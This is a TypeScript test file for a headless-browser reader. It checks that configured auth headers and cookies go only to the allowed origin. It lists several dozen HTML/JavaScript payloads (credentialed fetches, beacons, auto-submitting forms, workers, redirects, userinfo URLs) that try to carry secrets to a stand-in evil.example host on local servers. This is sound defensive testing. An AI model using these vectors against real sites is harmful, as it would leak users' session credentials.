import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { OpenBrowser } from "../../src/ports/browser.ts";
import { openerOfLoopback } from "./local-browser.ts";

type Handle = (request: IncomingMessage, response: ServerResponse) => void;

const open = await openerOfLoopback();
let browser: OpenBrowser;
let own: Served;
let other: Served;

type Served = AsyncDisposable & { port: number; seen: string[]; answers: Map<string, Handle> };

async function serve(): Promise<Served> {
  const seen: string[] = [];
  const answers = new Map<string, Handle>();
  const server = createServer((request, response) => {
    const path = request.url ?? "/";
    seen.push(
      `${request.method} ${request.headers.host}${path} ${JSON.stringify(request.headers)}`,
    );
    const answer = answers.get(path);
    if (answer !== undefined) return answer(request, response);
    response.writeHead(200, {
      "content-type": "text/html",
      "access-control-allow-origin": request.headers.origin ?? "*",
      "access-control-allow-credentials": "true",
      "access-control-allow-headers": "authorization, x-a",
    });
    response.end("<p>anything</p>");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address() as AddressInfo; // a TCP server's address
  return {
    port,
    seen,
    answers,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}

beforeAll(async () => {
  browser = await open();
  [own, other] = [await serve(), await serve()];
}, 60_000);

afterAll(async () => {
  await browser.close();
  await own[Symbol.asyncDispose]();
  await other[Symbol.asyncDispose]();
});

const secret = /c2VjcmV0|secret-cookie/;
const origin = () => `http://docs.example:${own.port}`;

function options({ waitMs = 0, maxMs = 30_000 } = {}) {
  const access = {
    origins: [origin()],
    headers: { authorization: "Basic c2VjcmV0" },
    cookies: [{ name: "sid", value: "secret-cookie" }],
  };
  own.seen.length = 0;
  other.seen.length = 0;
  return { waitMs, signal: AbortSignal.timeout(maxMs), access };
}

function read(path: string, given: { waitMs?: number; maxMs?: number } = {}) {
  return browser.read(origin() + path, options(given));
}

function capture(path: string) {
  const size = { width: 640, height: 480, fullPage: false };
  return browser.capture(origin() + path, { ...options({ waitMs: 300 }), ...size });
}

const html =
  (body: string): Handle =>
  (_request, response) =>
    void response.writeHead(200, { "content-type": "text/html" }).end(body);

const moved =
  (location: string): Handle =>
  (_request, response) =>
    void response.writeHead(302, { location }).end();

test("headers and cookies are sent with the page, its data and redirects within the origin", async () => {
  own.answers.set("/start", moved("/page"));
  own.answers.set("/page", (_request, response) => {
    response.writeHead(200, { "content-type": "text/html", "set-cookie": "step=1" });
    response.end(
      `<p id=p></p><script>fetch("/data").then(r => r.text()).then(t => p.textContent = "got " + t)</script>`,
    );
  });
  own.answers.set("/data", (request, response) =>
    response.end(`${request.headers.authorization} ${request.headers.cookie}`),
  );
  const end = await read("/start");
  expect(end).toMatchObject({ ok: true, url: `${origin()}/page` });
  expect(end.ok ? end.html : "").toContain("got Basic c2VjcmV0 ");
  for (const line of own.seen.filter((one) => !one.includes("favicon"))) {
    expect(line).toContain("Basic c2VjcmV0");
    expect(line).toContain("sid=secret-cookie");
  }
  expect(own.seen.find((line) => line.includes("/data"))).toContain("step=1");
});

/** Each makes a page of the origin ask another origin, or be asked by it. */
const attempts: [string, (to: string, self: string) => string][] = [
  ["an image", (to) => `<img src="${to}/x.png">`],
  ["a script", (to) => `<script src="${to}/x.js"></script>`],
  ["a style sheet", (to) => `<link rel=stylesheet href="${to}/x.css">`],
  ["a preload", (to) => `<link rel=preload as=fetch crossorigin=use-credentials href="${to}/x">`],
  ["a frame", (to) => `<iframe src="${to}/x"></iframe>`],
  ["a frame in a sandbox", (to) => `<iframe sandbox="allow-scripts" src="${to}/x"></iframe>`],
  ["a base", (to) => `<base href="${to}/"><script src="x.js"></script>`],
  ["a fetch", (to) => `<script>fetch("${to}/x", { credentials: "include" })</script>`],
  [
    "a fetch with its own header",
    (to) =>
      `<script>fetch("${to}/x", { headers: { "x-a": "1" }, credentials: "include" })</script>`,
  ],
  ["a request without CORS", (to) => `<script>fetch("${to}/x", { mode: "no-cors" })</script>`],
  ["a beacon", (to) => `<script>navigator.sendBeacon("${to}/x", "1")</script>`],
  [
    "a form",
    (to) =>
      `<form method=post action="${to}/x"><input name=a></form><script>document.forms[0].submit()</script>`,
  ],
  ["a change of the location", (to) => `<script>location = "${to}/x"</script>`],
  ["a meta refresh", (to) => `<meta http-equiv=refresh content="0;url=${to}/x">`],
  [
    "a worker",
    (to) => `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${to}/x")'])))</script>`,
  ],
  [
    "an event stream",
    (to) => `<script>new EventSource("${to}/x", { withCredentials: true })</script>`,
  ],
  [
    "an XMLHttpRequest",
    (to) =>
      `<script>x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", "${to}/x"); x.send()</script>`,
  ],
  ["a redirected script", (to, self) => `<script src="${self}/redirect?${to}/x"></script>`],
  [
    "a redirected fetch",
    (to, self) => `<script>fetch("${self}/redirect?${to}/x", { credentials: "include" })</script>`,
  ],
  ["a redirected frame", (to, self) => `<iframe src="${self}/redirect?${to}/x"></iframe>`],
  [
    "a form that sends by GET",
    (to) =>
      `<form action="${to}/x"><input name=a></form><script>document.forms[0].submit()</script>`,
  ],
  [
    "a redirected form",
    (to, self) =>
      `<form action="${self}/redirect"><input name="${to}/x"></form><script>location = "${self}/redirect?${to}/x"</script>`,
  ],
  ["an imported style sheet", (to) => `<style>@import "${to}/x.css";</style>`],
  ["a module", (to) => `<script type=module>import "${to}/x.js"</script>`],
  [
    "an address whose user is the name of the origin",
    (to) => `<script>location = "${to.replace("//", "//docs.example@")}/x"</script>`,
  ],
  ["an embedded object", (to) => `<object data="${to}/x"></object>`],
];

test.each(attempts)(
  "another origin gets nothing by %s",
  async (_, body) => {
    for (const to of [`http://docs.example:${other.port}`, `http://evil.example:${other.port}`]) {
      own.answers.set("/page", html(`<p>text</p>${body(to, origin())}`));
      own.answers.set(`/redirect?${to}/x`, moved(`${to}/x`));
      // With its pictures, which are not loaded when a page is only read.
      await capture("/page");
      expect(own.seen.some((line) => secret.test(line))).toBe(true);
      expect(other.seen.filter((line) => / [^ ]*\/x/.test(line)).length).toBeGreaterThan(0);
      expect(other.seen.filter((line) => secret.test(line))).toEqual([]);
    }
  },
  60_000,
);

test("a redirect of the page to another origin takes nothing along", async () => {
  own.answers.set("/away", moved(`http://docs.example:${other.port}/x`));
  await read("/away");
  expect(other.seen.length).toBeGreaterThan(0);
  expect(other.seen.filter((line) => secret.test(line))).toEqual([]);
});

test("the same host and port by another protocol get nothing", async () => {
  own.answers.set("/page", html(`<p>text</p><script src="/s.js"></script>`));
  const given = options();
  const access = { ...given.access, origins: [origin().replace("http:", "https:")] };
  await browser.read(`${origin()}/page`, { ...given, access });
  expect(own.seen.filter((line) => /page|s\.js/.test(line))).toHaveLength(2);
  expect(own.seen.filter((line) => secret.test(line))).toEqual([]);
});

test("an address with a user gets nothing, also at the origin", async () => {
  const to = origin().replace("//", "//somebody:else@");
  own.answers.set("/page", html(`<p>text</p><script>location = "${to}/user"</script>`));
  await read("/page", { waitMs: 500 });
  expect(own.seen.filter((line) => line.includes("/user"))).not.toEqual([]);
  expect(own.seen.filter((line) => line.includes("/user") && secret.test(line))).toEqual([]);
});

test("a page of another origin that only asked for a navigation stays a stranger", async () => {
  own.answers.set("/away", moved(`http://evil.example:${other.port}/host`));
  own.answers.set("/none", (_request, response) => void response.writeHead(204).end());
  const script = `location = "${origin()}/none"; setTimeout(() => fetch("${origin()}/api"), 300)`;
  other.answers.set("/host", html(`<p>text</p><script>${script}</script>`));
  // The navigation without an answer keeps the page from being read: it ends with the time.
  await read("/away", { waitMs: 1_000, maxMs: 5_000 });
  const asked = own.seen.filter((line) => line.includes("/api"));
  expect(asked.length).toBeGreaterThan(0);
  expect(asked.filter((line) => secret.test(line))).toEqual([]);
});

test("a frame of the origin in its own page gets the credential, with what it loads", async () => {
  own.answers.set("/page", html(`<p>text</p><iframe src="/inner"></iframe>`));
  own.answers.set("/inner", html(`<script src="/inner.js"></script>`));
  await read("/page");
  const inner = own.seen.filter((line) => line.includes("/inner"));
  expect(inner).toHaveLength(2);
  for (const line of inner) expect(line).toMatch(secret);
});

test("frames and scripts of another origin's page ask without the credential", async () => {
  own.answers.set("/away", moved(`http://evil.example:${other.port}/host`));
  other.answers.set(
    "/host",
    html(`<iframe src="${origin()}/inner"></iframe><script src="${origin()}/s.js"></script>`),
  );
  await read("/away");
  const inner = own.seen.filter((line) => /inner|s\.js/.test(line));
  expect(inner.length).toBeGreaterThan(0);
  expect(inner.filter((line) => secret.test(line))).toEqual([]);
});

test("nothing but reading is sent to the origin", async () => {
  own.answers.set("/page", html(`<p>a</p><script>fetch("/delete", { method: "POST" })</script>`));
  await read("/page");
  expect(own.seen.filter((line) => line.startsWith("POST"))).toEqual([]);
});

test("neither a worker nor a frame of another origin writes to the origin", async () => {
  const post = `fetch("${origin()}/delete?by", { method: "POST", mode: "no-cors" })`;
  const isAsked = `fetch("${origin()}/asked?by", { mode: "no-cors" })`;
  const script = (by: string) => [isAsked, post].join(";").replaceAll("?by", `?${by}`);
  own.answers.set("/page", (_request, response) => {
    const worker = `new Worker(URL.createObjectURL(new Blob(['${script("worker")}'])))`;
    const frame = `http://evil.example:${other.port}/frame`;
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<p>text</p><iframe src="${frame}"></iframe><script>${worker}</script>`);
  });
  other.answers.set("/frame", html(`<script>${script("frame")}</script>`));
  await read("/page", { waitMs: 1_000 });
  const asked = own.seen.filter((line) => line.includes("/asked"));
  const askers = new Set(asked.map((line) => /worker|frame/.exec(line)?.[0]));
  expect(askers).toEqual(new Set(["frame", "worker"]));
  expect(asked).toHaveLength(2);
  expect(own.seen.filter((line) => line.startsWith("POST"))).toEqual([]);
});
